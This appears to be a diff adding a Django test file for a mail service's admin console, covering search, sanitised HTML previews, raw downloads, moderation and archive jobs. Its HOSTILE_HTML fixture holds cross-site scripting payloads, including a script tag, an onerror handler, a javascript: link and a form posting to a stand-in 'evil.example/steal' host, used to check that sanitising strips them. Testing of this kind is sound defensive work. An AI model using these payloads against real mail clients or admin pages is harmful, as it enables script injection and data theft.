@@ -1,0 +1,114 @@
+"""The message console: search as the API's q, a sanitised preview, moderation actions
+through the services, logged with the staff member."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from django.contrib.admin.models import LogEntry
+from django.test import Client
+
+from mail.models import ArchiveJob, Message
+from tests.mime import build_mail
+from webhooks.models import Event
+
+HOSTILE_HTML = """<html><body><h1 id=t>Hello</h1>
+<script>window.parent.document.title='pwned'</script>
+<img src="http://127.0.0.1:9/tracker.png" onerror="alert(1)">
+<form action="http://evil.example/steal"><input name=p></form>
+<a href="javascript:alert(1)">click</a></body></html>"""
+
+
+def test_search_uses_the_api_q_semantics(superuser_client: Client, owner: Any, deliver: Any) -> None:
+    deliver(build_mail(to=owner.address, subject="Invoice 100% paid"), to=owner.address)
+    deliver(build_mail(to=owner.address, subject="Other"), to=owner.address)
+
+    body = superuser_client.get("/admin/mail/message/", {"q": "100%"}).content.decode()
+    assert "Invoice 100% paid" in body
+    assert ">Other<" not in body
+
+
+def test_the_html_preview_is_sanitised_and_served_with_a_strict_csp(superuser_client: Client, owner: Any, deliver: Any) -> None:
+    deliver(build_mail(to=owner.address, html=HOSTILE_HTML), to=owner.address)
+    message = Message.objects.get()
+
+    quoted = message.pk.replace("_", "_5F")  # as the admin's own links quote it
+    page = superuser_client.get(f"/admin/mail/message/{quoted}/change/").content.decode()
+    assert 'sandbox=""' in page and 'id="html-body"' in page and "Hi there" in page
+    response = superuser_client.get(f"/admin/mail/message/{message.pk}/html/")
+    html = response.content.decode()
+    assert "<script" not in html and "onerror" not in html and "<form" not in html and "javascript:" not in html
+    csp = response["Content-Security-Policy"]
+    assert "img-src data:;" in csp and "sandbox" in csp and "default-src 'none'" in csp
+    allowed = superuser_client.get(f"/admin/mail/message/{message.pk}/html/?remote=1")["Content-Security-Policy"]
+    assert "https:" in allowed
+
+
+def test_the_raw_mime_downloads_byte_for_byte(superuser_client: Client, owner: Any, deliver: Any) -> None:
+    raw = build_mail(to=owner.address)
+    deliver(raw, to=owner.address)
+    message = Message.objects.get()
+
+    response = superuser_client.get(f"/admin/mail/message/{message.pk}/raw/")
+    assert b"".join(response.streaming_content) == raw
+
+
+def test_releasing_a_held_message_puts_it_in_the_inbox_and_tells_the_agent(moderator_client: Client, owner: Any, deliver: Any, moderator: Any) -> None:
+    deliver(build_mail(to=owner.address), to=owner.address)
+    message = Message.objects.get()
+    Message.objects.filter(pk=message.pk).update(disposition="held")
+    Event.objects.all().delete()
+
+    response = moderator_client.post("/admin/mail/moderationitem/", {"action": "release", "_selected_action": [message.pk]})
+
+    assert response.status_code == 302
+    message.refresh_from_db()
+    assert message.disposition == "inbox"
+    assert Event.objects.get().type == "message.received"
+    entry = LogEntry.objects.get()
+    assert entry.user == moderator and "Released" in entry.change_message
+
+
+def test_actions_label_read_and_archive_go_through_the_services(superuser_client: Client, owner: Any, deliver: Any) -> None:
+    deliver(build_mail(to=owner.address), to=owner.address)
+    message = Message.objects.get()
+
+    for action, extra in [("add_label", {"label": "needs-review"}), ("mark_read", {}), ("archive", {})]:
+        superuser_client.post("/admin/mail/message/", {"action": action, "_selected_action": [message.pk], **extra})
+
+    message.refresh_from_db()
+    assert message.label_names == ["needs-review"]
+    assert message.is_read and message.archived
+
+
+def test_a_purge_needs_confirmation(superuser_client: Client, owner: Any) -> None:
+    response = superuser_client.post("/admin/mail/archivejob/add/", {"action": "purge", "agent": owner.agent.pk, "older_than_days": 30})
+    assert response.status_code == 200
+    assert "confirm" in response.content.decode()
+    assert not ArchiveJob.objects.exists()
+
+
+def test_a_bulk_archive_job_archives_old_mail_of_one_agent(superuser_client: Client, owner: Any, teammate: Any, deliver: Any, django_capture_on_commit_callbacks: Any) -> None:
+    import datetime as dt
+
+    from django.utils import timezone
+
+    for persona in (owner, teammate):
+        deliver(build_mail(to=persona.address), to=persona.address)
+    deliver(build_mail(to=owner.address, subject="recent"), to=owner.address)
+    Message.objects.exclude(subject="recent").update(received_at=timezone.now() - dt.timedelta(days=100))
+
+    with django_capture_on_commit_callbacks(execute=True):
+        superuser_client.post("/admin/mail/archivejob/add/", {"action": "archive", "agent": owner.agent.pk, "older_than_days": 90})
+
+    job = ArchiveJob.objects.get()
+    assert (job.state, job.total, job.done) == ("done", 1, 1)
+    assert list(Message.objects.filter(archived=True).values_list("agent__agent_id", flat=True)) == ["owner"]
+    assert superuser_client.get("/admin/mail/archivejob/").status_code == 200
+
+
+def test_the_dashboard_shows_the_chart_and_queue(superuser_client: Client, owner: Any, deliver: Any) -> None:
+    deliver(build_mail(to=owner.address), to=owner.address)
+    body = superuser_client.get("/admin/").content.decode()
+    assert 'id="mail-chart"' in body and "<rect" in body
+    assert 'id="queue-size"' in body
